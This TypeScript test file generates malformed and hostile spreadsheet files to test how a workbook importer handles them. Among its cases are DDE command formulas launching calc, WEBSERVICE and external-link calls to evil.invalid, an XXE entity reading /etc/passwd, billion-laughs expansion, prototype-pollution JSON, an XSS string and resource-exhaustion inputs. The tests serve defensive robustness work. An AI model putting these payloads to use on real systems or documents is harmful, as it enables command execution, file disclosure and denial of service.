import { deflateRawSync } from 'node:zlib';
import { utils, write } from '@e965/xlsx';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { buildCfb } from '../../test/support/documents/build-cfb';
import { buildCell, buildRow, buildXlsx, type XlsxParts } from '../../test/support/documents/build-xlsx';
import { SAMPLE_HEADERS } from '../../test/support/documents/sample-annex';
import {
  type Attack,
  type BaseFiles,
  consolidateFiles,
  createCases,
  editPart,
  importFile,
  MARKER,
  openWorkbook,
} from './attack-case';

const ROW = ['1', 'Lập kế hoạch', 'Văn phòng', 'Trường Thử', 'Kế hoạch', 'Quý I'];
const HEADER_ROW = buildRow(1, SAMPLE_HEADERS);
const DATA = HEADER_ROW + buildRow(2, ROW);
const MEGABYTE = 1024 * 1024;

/** Parts of the school's workbook. */
const BOOK = 'xl/workbook.xml';
const STRINGS = 'xl/sharedStrings.xml';
const STYLES = 'xl/styles.xml';
const TASKS = 'xl/worksheets/sheet1.xml';

/** A changed school's workbook, opened by each subcommand and consolidated. */
function attackBook(base: BaseFiles, part: string, edit: (xml: string) => string): Attack {
  const bytes = editPart(base.school, part, edit);
  const consolidated = consolidateFiles({ 'b.xlsx': bytes }, base);
  const opened = openWorkbook(bytes);
  return {
    files: { ...consolidated.files, ...opened.files },
    calls: [...opened.calls, ...consolidated.calls],
  };
}

/** Tables of attacks on a part of the school's workbook. */
function createBookCases(kind: string, edits: Record<string, [part: string, edit: (xml: string) => string]>) {
  return createCases(
    kind,
    'xlsx',
    Object.fromEntries(
      Object.entries(edits).map(([name, [part, edit]]) => [
        name,
        (base: BaseFiles) => attackBook(base, part, edit),
      ]),
    ),
  );
}

const inSheet = (added: string) => (xml: string) => xml.replace('</sheetData>', `</sheetData>${added}`);
const inSheetData = (rows: () => string) => (xml: string) =>
  xml.replace('</sheetData>', () => `${rows()}</sheetData>`);
/** Rows of 40 numbers each, which differ so that they inflate no more than those of a large workbook. */
const writeCells = (count: number) => (): string =>
  Array.from(
    { length: count / 40 },
    (_, row) =>
      `<row r="${row + 1_000}">${Array.from({ length: 40 }, (__, column) => `<c><v>${((row * 40 + column) * 7_919) % 99_991}</v></c>`).join('')}</row>`,
  ).join('');
const inBook = (added: string) => (xml: string) => xml.replace('</definedNames>', `${added}</definedNames>`);

/** Replaces the first text that is a JSON object: the hidden record of the unit. */
const replaceRecord = (json: string) => (xml: string) =>
  xml.replace(
    /<t[^>]*>\{"unit"[^<]*<\/t>/,
    () => `<t>${json.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</t>`,
  );

const importSheet = (
  data: string,
  sheet: { before?: string; after?: string } = {},
  parts: XlsxParts = {},
): Uint8Array => buildXlsx([{ data, ...sheet }], parts);

/** An OpenDocument sheet around the XML of its rows. */
function buildOds(rows: string): Uint8Array {
  return zipSync({
    mimetype: [strToU8('application/vnd.oasis.opendocument.spreadsheet'), { level: 0 }],
    'content.xml': strToU8(
      '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">' +
        `<office:body><office:spreadsheet><table:table table:name="A">${rows}</table:table></office:spreadsheet></office:body></office:document-content>`,
    ),
    'styles.xml': strToU8('<office:document-styles/>'),
    'META-INF/manifest.xml': strToU8(
      '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
    ),
  });
}
const formatOdsRow = (cells: readonly string[], attributes = '', cellAttributes = ''): string =>
  `<table:table-row ${attributes}>${cells.map((cell) => `<table:table-cell office:value-type="string" ${cellAttributes}><text:p>${cell}</text:p></table:table-cell>`).join('')}</table:table-row>`;

const writeXmlBook = (rows: string): string =>
  `<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="A"><Table>${rows}</Table></Worksheet></Workbook>`;
const formatXmlRow = (cells: readonly string[], attributes = '', cellAttributes = ''): string =>
  `<Row ${attributes}>${cells.map((cell) => `<Cell ${cellAttributes}><Data ss:Type="String">${cell}</Data></Cell>`).join('')}</Row>`;

function writeOldBook(
  damage: (bytes: Uint8Array, random: (below: number) => number) => void,
  random: (below: number) => number,
): Uint8Array {
  const sheet = utils.aoa_to_sheet([SAMPLE_HEADERS, ROW]);
  const bytes = new Uint8Array(
    write(utils.book_new(sheet, 'A'), { type: 'array', bookType: 'biff8' }) as ArrayBuffer,
  );
  damage(bytes, random);
  return bytes;
}

export const WORKBOOK_CASES = [
  ...createBookCases('workbook', {
    'defined names that call each other': [
      BOOK,
      inBook(
        `<definedName name="VongA">VongB+1</definedName><definedName name="VongB">VongA+1</definedName><definedName name="CH_Nam2">CH_Nam2</definedName>`,
      ),
    ],
    'defined name of a program': [
      BOOK,
      inBook(`<definedName name="_xlnm.Auto_Open">cmd|'/c calc'!${MARKER}</definedName>`),
    ],
    'our defined names, elsewhere': [
      BOOK,
      (xml) =>
        xml
          .replace(/(<definedName name="HomNay">)[^<]*/, `$1'Không có'!$XFD$1048576`)
          .replace(/(<definedName name="CH_Nam">)[^<]*/, '$1#REF!'),
    ],
    '!four million cells beside the tasks': [TASKS, inSheetData(writeCells(4_000_000))],
    '!six million cells beside the tasks': [TASKS, inSheetData(writeCells(6_000_000))],
    '50,000 defined names': [
      BOOK,
      inBook(
        Array.from({ length: 50_000 }, (_, index) => `<definedName name="N${index}">1</definedName>`).join(
          '',
        ),
      ),
    ],
    'sheet named like a formula': [
      BOOK,
      (xml) => xml.replace('name="Danh mục"', `name="=cmd|'/c calc'!${MARKER}"`),
    ],
    'two sheets of one name': [BOOK, (xml) => xml.replace('name="Danh mục"', 'name="Phụ lục"')],
    '5,000 sheets': [
      BOOK,
      (xml) =>
        xml.replace(
          '</sheets>',
          `${Array.from({ length: 5_000 }, (_, index) => `<sheet name="S${index}" sheetId="${index + 100}" r:id="rId1"/>`).join('')}</sheets>`,
        ),
    ],
    'no sheet': [BOOK, (xml) => xml.replace(/<sheets>.*<\/sheets>/, '<sheets/>')],
    'circular formulas': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          '<row r="900"><c r="A900"><f>B900+1</f></c><c r="B900"><f>A900+1</f></c><c r="C900"><f>SUM(A1:Z1000)+C900</f></c></row></sheetData>',
        ),
    ],
    'formulas of 8,000 brackets': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          `<row r="900"><c r="A900"><f>${'('.repeat(4_000)}1${')'.repeat(4_000)}</f></c></row></sheetData>`,
        ),
    ],
    'formulas over whole sheets, 200': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          `${Array.from({ length: 200 }, (_, index) => `<row r="${900 + index}"><c r="A${900 + index}"><f>SUMPRODUCT((B1:XFD1048576=1)*(B1:XFD1048576=2))+SUM(1:1048576)</f></c></row>`).join('')}</sheetData>`,
        ),
    ],
    'formula that repeats a text 32,767 times, chained': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          `<row r="900"><c r="A900"><f>REPT("x",32767)</f></c>${Array.from(
            { length: 30 },
            (_, index) =>
              `<c r="${String.fromCharCode(66 + (index % 24))}${900}"><f>REPT(A900,1e9)&amp;REPT(A900,32767)</f></c>`,
          )
            .slice(0, 20)
            .join('')}</row></sheetData>`,
        ),
    ],
    'formulas of dynamic arrays, SEQUENCE(1048576,16384)': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          '<row r="900"><c r="A900"><f>SUM(SEQUENCE(1048576,16384))</f></c><c r="B900"><f>ROWS(RANDARRAY(1048576,16384))</f></c></row></sheetData>',
        ),
    ],
    'formulas that load': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          `<row r="900"><c r="A900"><f>WEBSERVICE("http://evil.invalid/${MARKER}")</f></c><c r="B900"><f>cmd|'/c calc'!A1</f></c></row></sheetData>`,
        ),
    ],
    'chain of 20,000 formulas': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          `${Array.from({ length: 20_000 }, (_, index) => `<row r="${1000 + index}"><c r="AZ${1000 + index}"><f>AZ${1001 + index}+1</f></c></row>`).join('')}</sheetData>`,
        ),
    ],
    '20,000 conditional formats': [
      TASKS,
      inSheet(
        Array.from(
          { length: 20_000 },
          (_, index) =>
            `<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="${index + 1000}"><formula>SUM(A1:XFD1048576)=${index}</formula></cfRule></conditionalFormatting>`,
        ).join(''),
      ),
    ],
    '20,000 lists to choose from': [
      TASKS,
      inSheet(
        `<dataValidations>${Array.from({ length: 20_000 }, () => `<dataValidation type="list" sqref="A1:XFD1048576"><formula1>"${MARKER}"</formula1></dataValidation>`).join('')}</dataValidations>`,
      ),
    ],
    'whole sheet merged': [TASKS, inSheet('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')],
    'merges across each other': [
      TASKS,
      inSheet(
        '<mergeCells><mergeCell ref="A7:D20"/><mergeCell ref="B8:E30"/><mergeCell ref="A7:A7"/><mergeCell ref="Z9:B2"/></mergeCells>',
      ),
    ],
    'merge of places that are none': [
      TASKS,
      inSheet(
        '<mergeCells><mergeCell ref="A0:B-1"/><mergeCell ref="ZZZZ1:A99999999"/><mergeCell ref=""/><mergeCell/></mergeCells>',
      ),
    ],
    '100,000 merges': [
      TASKS,
      inSheet(
        `<mergeCells>${Array.from({ length: 100_000 }, (_, index) => `<mergeCell ref="A${index * 2 + 60}:C${index * 2 + 61}"/>`).join('')}</mergeCells>`,
      ),
    ],
    'columns of all 16,384, each its own': [
      TASKS,
      (xml) =>
        xml.replace(
          /<cols>.*?<\/cols>|(?=<sheetData>)/,
          `<cols>${Array.from({ length: 16_384 }, (_, index) => `<col min="${index + 1}" max="${index + 1}" width="9"/>`).join('')}</cols>`,
        ),
    ],
    'cell in the last corner': [
      TASKS,
      (xml) =>
        xml.replace('</sheetData>', '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    ],
    'rows and cells that are none': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          '<row r="0"><c r="A0"><v>1</v></c></row><row r="-5"/><row r="99999999999"><c r="ZZZZZ9"><v>1</v></c></row><row r="1e9"/></sheetData>',
        ),
    ],
    'rows out of order': [
      TASKS,
      (xml) =>
        xml.replace(
          '</sheetData>',
          '<row r="3"><c r="C3"><v>1</v></c><c r="A3"><v>2</v></c></row></sheetData>',
        ),
    ],
    'row twice': [TASKS, (xml) => xml.replace(/(<row r="8".*?<\/row>)/, '$1$1')],
    'numbers beyond numbers': [
      TASKS,
      (xml) =>
        xml
          .replace(/<v>46081<\/v>/g, '<v>1e300</v>')
          .replace(
            '</sheetData>',
            '<row r="900"><c r="M900" s="16"><v>1e308</v></c><c r="L900" s="16"><v>-1e300</v></c><c r="K900" s="16"><v>NaN</v></c><c r="A900"><v>1e999</v></c></row></sheetData>',
          ),
    ],
    'index of a text that is not there': [
      TASKS,
      (xml) =>
        xml
          .replace(/<c r="B8"([^>]*)><v>\d+<\/v>/, '<c r="B8"$1><v>99999999</v>')
          .replace(/<c r="C8"([^>]*)><v>\d+<\/v>/, '<c r="C8"$1><v>-1</v>'),
    ],
    'styles that are not there': [TASKS, (xml) => xml.replace(/ s="\d+"/g, ' s="4000000000"')],
    'counts that lie': [
      STRINGS,
      (xml) =>
        xml.replace(
          /<sst([^>]*)>/,
          '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4294967295" uniqueCount="4294967295">',
        ),
    ],
    'no shared strings': [STRINGS, (xml) => xml.replace(/<si>.*<\/si>/s, '')],
    'text of 5 MB': [STRINGS, (xml) => xml.replace('<t>', `<t>${'x'.repeat(5 * MEGABYTE)}`)],
    'texts escaped twice': [STRINGS, (xml) => xml.replace('<t>', '<t>_x0000__x001B_[2J_xD800__x202E_')],
    '70,000 styles': [
      STYLES,
      (xml) =>
        xml.replace(
          '</cellXfs>',
          `${'<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'.repeat(70_000)}</cellXfs>`,
        ),
    ],
    'number formats of 100 KB': [
      STYLES,
      (xml) => xml.replace(/formatCode="[^"]*"/g, `formatCode="${'[&gt;1]0;'.repeat(15_000)}"`),
    ],
    'number formats that are none': [
      STYLES,
      (xml) => xml.replace(/formatCode="[^"]*"/g, 'formatCode="[$-F800][[[&quot;"'),
    ],
    'external link': [
      'xl/_rels/workbook.xml.rels',
      (xml) =>
        xml.replace(
          '</Relationships>',
          `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="http://evil.invalid/${MARKER}" TargetMode="External"/></Relationships>`,
        ),
    ],
    'table over the whole sheet': [
      'xl/tables/table1.xml',
      (xml) => xml.replace(/ref="[^"]*"/g, 'ref="A1:XFD1048576"'),
    ],
    'table over nothing': ['xl/tables/table1.xml', (xml) => xml.replace(/ref="[^"]*"/g, 'ref="B9:A1"')],
    'table with columns of one name': [
      'xl/tables/table1.xml',
      (xml) => xml.replace(/(<tableColumn [^>]*name=")[^"]*/g, '$1Mã'),
    ],
    'table named like ours, twice': [
      'xl/tables/table2.xml',
      (xml) => xml.replace(/(displayName|name)="[^"]*"/g, '$1="NhiemVu"'),
    ],
  }),
  ...createBookCases('record', {
    'unit that is a list': [STRINGS, replaceRecord('{"unit":[1,2],"edition":null,"fingerprint":{}}')],
    null: [STRINGS, replaceRecord('{"unit":null}')],
    prototypes: [
      STRINGS,
      replaceRecord(
        '{"unit":{"__proto__":{"code":"TH-02"},"constructor":1,"code":"__proto__","name":"constructor"},"__proto__":{"x":1},"edition":{"issuer":"","number":"","date":"","title":"","year":2026},"fingerprint":"__proto__","savedAt":""}',
      ),
    ],
    'numbers beyond dates': [
      STRINGS,
      replaceRecord(
        '{"unit":{"code":"TH-01","name":"A"},"edition":{"issuer":"a","number":"1","date":"+999999-99-99","title":"t","year":1e300},"fingerprint":"x","savedAt":"9999-99-99T99:99"}',
      ),
    ],
    'JSON 10,000 deep': [STRINGS, replaceRecord(`{"unit":${'['.repeat(10_000)}${']'.repeat(10_000)}}`)],
    'JSON that is cut': [STRINGS, replaceRecord('{"unit":{"code":"TH')],
    'JSON of 10 MB': [
      STRINGS,
      replaceRecord(`{"unit":{"code":"TH-01","name":"${'x'.repeat(10 * MEGABYTE)}"}}`),
    ],
    'million aliases': [
      STRINGS,
      replaceRecord(
        `{"unit":{"code":"TH-01","name":"A","aliases":[${'"a",'.repeat(500_000)}"a"]},"edition":{"issuer":"","number":"","date":"","title":"","year":2026},"fingerprint":"","savedAt":""}`,
      ),
    ],
    'name with markup and codes': [
      STRINGS,
      replaceRecord(
        `{"unit":{"code":"=1+1${MARKER}","name":"<img src=x onerror=${MARKER}>\\u001b[2J"},"edition":{"issuer":"<b>","number":"=1","date":"","title":"@x","year":2026},"fingerprint":"","savedAt":""}`,
      ),
    ],
    'history of other shapes': [
      STRINGS,
      (xml) =>
        xml.replace(
          /<t[^>]*>\{"(id|kind)"[^<]*<\/t>/g,
          '<t>{"id":{"a":1},"kind":"__proto__","state":[],"size":-1}</t>',
        ),
    ],
    'history that is no JSON': [
      STRINGS,
      (xml) => xml.replace(/<t[^>]*>\{"(id|kind)"[^<]*<\/t>/g, '<t>{{{{</t>'),
    ],
  }),
  ...createCases('workbook', 'xlsx', {
    '!used range of a million rows': () =>
      importSheet(
        `${DATA}${Array.from({ length: 300_000 }, (_, index) => `<row r="${index + 3}"><c r="A${index + 3}" s="1"/></row>`).join('')}`,
      ),
    '!25,000 rows of tasks': () =>
      importSheet(
        HEADER_ROW + Array.from({ length: 25_000 }, (_, index) => buildRow(index + 2, ROW)).join(''),
      ),
    '!19,000 rows of headers': () =>
      importSheet(Array.from({ length: 19_000 }, (_, index) => buildRow(index + 1, SAMPLE_HEADERS)).join('')),
    '!one row of 16,384 columns': () =>
      importSheet(
        `<row r="1">${Array.from({ length: 16_384 }, () => '<c t="inlineStr"><is><t>x</t></is></c>').join('')}</row>${buildRow(2, ROW)}`,
      ),
    '!300 rows of 16,384 columns': () =>
      importSheet(
        Array.from(
          { length: 300 },
          (_, row) => `<row r="${row + 1}">${'<c><v>1</v></c>'.repeat(16_384)}</row>`,
        ).join(''),
      ),
    'whole sheet merged, an annex': () =>
      importSheet(DATA, { after: '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>' }),
    '!merges: 50,000 across each other': () =>
      importSheet(DATA, {
        after: `<mergeCells>${Array.from({ length: 50_000 }, (_, index) => `<mergeCell ref="A1:F${index + 2}"/>`).join('')}</mergeCells>`,
      }),
    'cells of one address': () =>
      importSheet(HEADER_ROW + `<row r="2">${ROW.map((text) => buildCell('B2', text)).join('')}</row>`),
    '!sheets: 3,000': () =>
      buildXlsx(Array.from({ length: 1_300 }, (_, index) => ({ name: `S${index}`, data: DATA }))),
    'dates of 1e300': () =>
      importSheet(
        HEADER_ROW +
          `<row r="2">${ROW.slice(0, 5)
            .map((text, index) => buildCell(`${'ABCDE'[index]}2`, text))
            .join('')}<c r="F2" s="1"><v>1e300</v></c></row>`,
        {},
        { styles: '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs>' },
      ),
    'date format of 50,000 letters': () =>
      importSheet(
        HEADER_ROW +
          `<row r="2">${ROW.slice(0, 5)
            .map((text, index) => buildCell(`${'ABCDE'[index]}2`, text))
            .join('')}<c r="F2" s="1"><v>46000</v></c></row>`,
        {},
        {
          styles: `<numFmts><numFmt numFmtId="200" formatCode="${'yymmdd[h]'.repeat(6_000)}"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs>`,
        },
      ),
    'phonetic and rich runs, 50,000': () =>
      importSheet(
        HEADER_ROW + `<row r="2"><c r="B2" t="s"><v>0</v></c></row>`,
        {},
        { strings: `<si>${'<r><rPr><b/></rPr><t>a</t></r><rPh><t>b</t></rPh>'.repeat(50_000)}</si>` },
      ),
  }),
  ...createCases('old workbook', 'ods', {
    'rows repeated 1,000,000,000 times': () =>
      buildOds(formatOdsRow(SAMPLE_HEADERS) + formatOdsRow(ROW, 'table:number-rows-repeated="1000000000"')),
    'columns repeated 1,000,000,000 times': () =>
      buildOds(
        formatOdsRow(SAMPLE_HEADERS) + formatOdsRow(ROW, '', 'table:number-columns-repeated="1000000000"'),
      ),
    'both repeated': () =>
      buildOds(
        formatOdsRow(SAMPLE_HEADERS, '', 'table:number-columns-repeated="16384"').repeat(3) +
          formatOdsRow(ROW, 'table:number-rows-repeated="1048576"', 'table:number-columns-repeated="16384"'),
      ),
    'repeated below zero': () =>
      buildOds(
        formatOdsRow(SAMPLE_HEADERS) +
          formatOdsRow(ROW, 'table:number-rows-repeated="-5"', 'table:number-columns-repeated="-5"'),
      ),
    'spans of 1,000,000,000': () =>
      buildOds(
        formatOdsRow(SAMPLE_HEADERS) +
          formatOdsRow(
            ROW,
            '',
            'table:number-rows-spanned="1000000000" table:number-columns-spanned="1000000000"',
          ),
      ),
    '!spaces of 1,000,000,000': () =>
      buildOds(
        formatOdsRow(SAMPLE_HEADERS) + formatOdsRow(['1', '<text:s text:c="1000000000"/>', ...ROW.slice(2)]),
      ),
    'billion laughs': () => {
      const bytes = unzipSync(buildOds(formatOdsRow(SAMPLE_HEADERS) + formatOdsRow(ROW)));
      return zipSync({
        ...bytes,
        'content.xml': strToU8(
          `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${strFromU8(bytes['content.xml']!).replace('Lập', '&b;')}`,
        ),
      });
    },
  }),
  ...createCases('old workbook', 'xml', {
    'index of 1,000,000,000': () =>
      writeXmlBook(
        formatXmlRow(SAMPLE_HEADERS) + formatXmlRow(ROW, 'ss:Index="1000000000"', 'ss:Index="1000000000"'),
      ),
    'index below zero': () =>
      writeXmlBook(formatXmlRow(SAMPLE_HEADERS) + formatXmlRow(ROW, 'ss:Index="-3"', 'ss:Index="-3"')),
    'merged across 1,000,000,000': () =>
      writeXmlBook(
        formatXmlRow(SAMPLE_HEADERS) +
          formatXmlRow(ROW, '', 'ss:MergeAcross="1000000000" ss:MergeDown="1000000000"'),
      ),
    'formulas and addresses': () =>
      writeXmlBook(
        formatXmlRow(SAMPLE_HEADERS) +
          formatXmlRow(ROW, '', `ss:Formula="=cmd|'/c calc'!A1" ss:HRef="http://evil.invalid/${MARKER}"`),
      ),
    'external entity': () =>
      writeXmlBook(formatXmlRow(SAMPLE_HEADERS) + formatXmlRow(['1', '&x;'])).replace(
        '?>',
        '?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
      ),
    '!elements 200,000 deep': () => writeXmlBook('<Row>'.repeat(200_000)),
  }),
  ...createCases('old workbook', 'xls', {
    'sectors in a circle': (_, random) =>
      writeOldBook((bytes) => new DataView(bytes.buffer).setUint32(512, 0, true), random),
    'every sector the next of itself': (_, random) =>
      writeOldBook((bytes) => {
        for (let at = 0; at < 128; at++) new DataView(bytes.buffer).setUint32(512 + at * 4, at, true);
      }, random),
    'sector size of 2^30': (_, random) => writeOldBook((bytes) => bytes.set([30, 0], 30), random),
    'sector size of 1': (_, random) => writeOldBook((bytes) => bytes.set([0, 0], 30), random),
    'four billion sectors of tables': (_, random) =>
      writeOldBook((bytes) => bytes.set([255, 255, 255, 255], 44), random),
    'tables of tables in a circle': (_, random) =>
      writeOldBook((bytes) => bytes.set([0, 0, 0, 0, 255, 255, 255, 127], 68), random),
    'noise in the records': (_, random) =>
      writeOldBook((bytes, next) => {
        for (let at = 0; at < 200; at++) bytes[512 + next(bytes.length - 512)] = next(256);
      }, random),
    'records of length 65,535': (_, random) =>
      writeOldBook((bytes) => {
        for (let at = 514; at < 4000; at += 40) bytes.set([255, 255], at);
      }, random),
    'Word document': () => buildCfb(['WordDocument', MARKER]),
    'names of streams, 5,000': () => buildCfb(Array.from({ length: 5_000 }, (_, index) => `S${index}`)),
    'BIFF 2 that ends at once': () => Uint8Array.of(9, 0, 4, 0, 0, 0, 16, 0),
    'BIFF 4 of noise': (_, random) =>
      Uint8Array.from([9, 4, 6, 0, ...Array.from({ length: 5_000 }, () => random(256))]),
  }),
  ...createCases('old workbook', 'xlsb', {
    'binary parts of noise': (_, random) => {
      const sheet = utils.aoa_to_sheet([SAMPLE_HEADERS, ROW]);
      const parts = unzipSync(
        new Uint8Array(write(utils.book_new(sheet, 'A'), { type: 'array', bookType: 'xlsb' }) as ArrayBuffer),
      );
      return zipSync(
        Object.fromEntries(
          Object.entries(parts).map(([name, part]) => [
            name,
            name.endsWith('.bin') ? part.map((byte) => (random(8) === 0 ? random(256) : byte)) : part,
          ]),
        ),
      );
    },
    'packed by nobody': () => importFile('a.xlsb', deflateRawSync(strToU8('x'.repeat(1000)))),
  }),
];
